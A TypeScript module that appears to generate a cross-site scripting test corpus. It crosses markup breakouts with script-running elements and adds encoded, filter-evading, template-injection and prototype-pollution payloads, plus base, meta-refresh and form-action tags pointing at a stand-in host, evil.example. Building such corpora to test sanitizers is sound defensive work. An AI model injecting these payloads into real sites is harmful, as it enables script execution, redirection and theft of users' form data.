/** Attacks by markup: how scripts get into pages that take text for markup, made of their parts. */

/** Calls that a test notices. */
const CALLS = ['executed(1)', 'alert(1)', 'top.alert`1`', 'window["al"+"ert"](1)'] as const;

/** How markup begins where text was meant to be. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '--><!--',
  '`}',
  ']]>',
  '</style>',
] as const;

/** Elements that run a call without anybody doing anything, or nearly so. */
const ELEMENTS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src="javascript:${call}">`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<a href="javascript:${call}" autofocus tabindex=1 onfocus=${call}>x</a>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<style>@import "javascript:${call}";</style><link rel=stylesheet href=//evil.example>`,
];

/** Attacks without an element of their own. */
const OTHERS = [
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example><button autofocus>',
  '{{constructor.constructor("executed(1)")()}}',
  '$'.concat('{executed(1)}'),
  '#{executed(1)}',
  '<%= executed(1) %>',
  'javascript:executed(1)',
  '\\u003cscript\\u003eexecuted(1)\\u003c/script\\u003e',
  '&lt;script&gt;executed(1)&lt;/script&gt;',
  '&#60;script&#62;executed(1)&#60;/script&#62;',
  '%3Cscript%3Eexecuted(1)%3C/script%3E',
  '+ADw-script+AD4-executed(1)+ADw-/script+AD4-',
  '<scr<script>ipt>executed(1)</scr</script>ipt>',
  '<ScRiPt>executed(1)</sCrIpT>',
  '<\u0000script>executed(1)</script>',
  '\uff1cscript\uff1eexecuted(1)\uff1c/script\uff1e',
  '"onmouseover="executed(1)',
  "'+executed(1)+'",
  '__proto__[innerHTML]=<img src=x onerror=executed(1)>',
  '\u202e>tpircs/<)1(detucexe>tpircs<',
] as const;

/** All of it: every breakout with every element, and the rest. */
export function xssCorpus(): string[] {
  const attacks: string[] = [...OTHERS];
  for (const [at, breakout] of BREAKOUTS.entries()) {
    for (const [index, element] of ELEMENTS.entries()) {
      for (const offset of [0, 1]) {
        const call = CALLS[(at + index + offset) % CALLS.length] ?? CALLS[0];
        attacks.push(`${breakout}${element(call)}`);
      }
    }
  }
  return attacks;
}
